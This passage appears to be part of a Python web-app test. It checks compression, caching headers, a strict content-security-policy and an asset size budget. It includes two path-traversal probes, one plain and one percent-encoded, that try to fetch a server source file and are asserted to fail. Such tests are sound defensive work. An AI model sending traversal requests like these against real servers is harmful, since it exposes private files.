        for url in {f"{home}/chat", *(one for one in urls if "/session" not in one)}:
            with http.stream("GET", url) as answer:
                sizes[url] = len(b"".join(answer.iter_raw()))
                assert answer.headers["content-encoding"] == "gzip", url
                if "/pages/" in url:
                    assert answer.headers["x-content-type-options"] == "nosniff", url
                else:
                    policies.add(answer.headers["content-security-policy"])
                tag = answer.headers["etag"]
            known = http.get(url, headers={"If-None-Match": tag})
            assert (known.status_code, known.content) == (304, b"")
        assert http.get(f"{home}/chat/../sign_in.py").status_code == 404
        assert http.get(f"{home}/chat/%2e%2e/sign_in.py").status_code == 404
    assert len(sizes) >= 9
    assert sum(sizes.values()) < 150_000, json.dumps(sizes, indent=1)
    (policy,) = policies
    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
    assert rules["default-src"] == rules["frame-ancestors"] == rules["base-uri"] == "'none'"
    assert rules["script-src"] == rules["style-src"] == rules["connect-src"] == "'self'"
